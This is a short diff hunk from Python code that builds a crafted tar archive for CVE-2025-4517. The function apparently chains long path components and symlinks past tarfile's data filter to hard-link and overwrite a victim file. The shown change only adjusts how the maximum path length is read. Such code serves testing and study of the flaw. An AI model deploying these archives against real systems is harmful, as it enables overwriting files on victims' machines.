@@ -94,7 +94,7 @@ def cve_2025_4517(target: Path, victim: Path) -> list[Member]:
     resolving and ``tarfile``'s ``data`` filter sees a name inside the tree; through them a
     hard link to the victim, which is then overwritten, and a new file beside it."""
     steps = "abcdefghijklmnop"
-    max_path = os.pathconf(target.parent, "PC_PATH_MAX")
+    max_path = os.pathconf("/", "PC_PATH_MAX")
     component = "d" * ((max_path - len(str(target)) - 1) // (len(steps) + 1))
     members: list[Member] = []
     path = ""
